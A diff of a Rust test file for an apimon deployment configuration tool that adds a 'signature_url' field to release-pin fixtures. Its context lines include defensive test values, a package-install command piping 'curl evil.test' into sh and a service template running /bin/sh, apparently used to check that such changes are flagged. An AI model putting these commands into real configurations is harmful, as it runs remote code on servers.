@@ -61,7 +61,7 @@ authority! {
     a_package_command: |s| {
         if let Some(ssh) = outside(s).ssh.as_mut() { ssh.package_install = "curl evil.test | sh {package}".into() }
     } => ["environments.outside.ssh.package_install"];
-    a_release_pin: |s| s.apimon_binary = Some(crate::model::raw::ApimonBinary { url: "https://r.test/apimon".into(), sha256: "0".repeat(64) })
+    a_release_pin: |s| s.apimon_binary = Some(crate::model::raw::ApimonBinary { url: "https://r.test/apimon".into(), sha256: "0".repeat(64), signature_url: None })
         => ["apimon_binary"];
     a_template_override: |s| {
         s.templates.insert("apimon-executor.service".into(), TemplateOverride { file: "templates/apimon-executor.service.hbs".into(), text: "[Service]\nExecStart=/bin/sh\n".into() });
@@ -87,6 +87,7 @@ fn what_goes_back_or_is_removed_widens_nothing() {
     old.apimon_binary = Some(crate::model::raw::ApimonBinary {
         url: "https://r.test/apimon".into(),
         sha256: "0".repeat(64),
+        signature_url: None,
     });
     let mut new = old.clone();
     new.templates.clear();
